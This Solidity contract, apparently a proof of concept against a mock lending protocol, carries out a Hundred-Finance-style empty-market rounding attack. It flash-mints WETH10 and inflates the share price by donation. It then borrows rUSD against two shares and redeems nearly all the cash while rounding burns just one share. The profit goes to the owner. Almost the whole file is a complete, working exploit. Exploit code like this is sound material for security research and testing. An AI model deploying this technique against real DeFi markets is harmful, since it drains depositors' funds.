// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {IERC3156FlashBorrower} from "@openzeppelin/contracts/interfaces/IERC3156FlashBorrower.sol";
import {RoundingComptroller, RoundingMarket, RoundingWETH10} from "./RoundingLend.sol";

/// @title RoundingAttacker
/// @notice Hundred-Finance-style attack on the freshly listed, empty WETH10
///         market, in one transaction: flash-mint WETH10; mint shares and
///         redeem all but 2; donate the loan to the market (one share is now
///         worth half the donation); borrow rUSD against the 2 shares;
///         `redeemUnderlying(cash - 1)`, which rounds down to burning ONE share
///         and passes the solvency check (the remaining share is valued at
///         the pre-redeem rate); repay the flash mint and keep the rUSD.
contract RoundingAttacker is IERC3156FlashBorrower {
    bytes32 private constant CALLBACK_SUCCESS = keccak256("ERC3156FlashBorrower.onFlashLoan");
    uint256 private constant SEED = 1 ether;

    address public immutable owner;
    RoundingComptroller public immutable comptroller;
    RoundingMarket public immutable ethMarket;
    RoundingMarket public immutable usdMarket;
    RoundingWETH10 public immutable weth;

    event Drained(uint256 donation, uint256 borrowed);

    error NotOwner(address caller);
    error UntrustedLender(address caller, address initiator);
    error EtherTransferFailed();

    constructor(RoundingComptroller comptroller_, RoundingMarket ethMarket_, RoundingMarket usdMarket_) {
        owner = msg.sender;
        comptroller = comptroller_;
        ethMarket = ethMarket_;
        usdMarket = usdMarket_;
        weth = RoundingWETH10(payable(address(ethMarket_.underlying())));
    }

    receive() external payable {}

    /// @param donation WETH10 donated to the market; borrowAmount rUSD to take.
    ///        msg.value (a few wei) covers the rounding dust the market keeps.
    function attack(uint256 donation, uint256 borrowAmount) external payable {
        if (msg.sender != owner) revert NotOwner(msg.sender);
        weth.deposit{value: msg.value}();
        weth.flashLoan(this, address(weth), donation + SEED, abi.encode(donation, borrowAmount));
        IERC20 usd = usdMarket.underlying();
        usd.transfer(owner, usd.balanceOf(address(this)));
        uint256 left = weth.balanceOf(address(this));
        if (left > 0) {
            weth.withdraw(left);
            (bool ok,) = owner.call{value: left}("");
            if (!ok) revert EtherTransferFailed();
        }
        emit Drained(donation, borrowAmount);
    }

    function onFlashLoan(address initiator, address, uint256 amount, uint256 fee, bytes calldata data)
        external
        returns (bytes32)
    {
        if (msg.sender != address(weth) || initiator != address(this)) revert UntrustedLender(msg.sender, initiator);
        (uint256 donation, uint256 borrowAmount) = abi.decode(data, (uint256, uint256));

        weth.approve(address(ethMarket), SEED);
        ethMarket.mint(SEED);
        ethMarket.redeem(ethMarket.balanceOf(address(this)) - 2);
        weth.transfer(address(ethMarket), donation);

        address[] memory list = new address[](1);
        list[0] = address(ethMarket);
        comptroller.enterMarkets(list);
        usdMarket.borrow(borrowAmount);
        ethMarket.redeemUnderlying(ethMarket.getCash() - 1);

        weth.approve(address(weth), amount + fee);
        return CALLBACK_SUCCESS;
    }
}
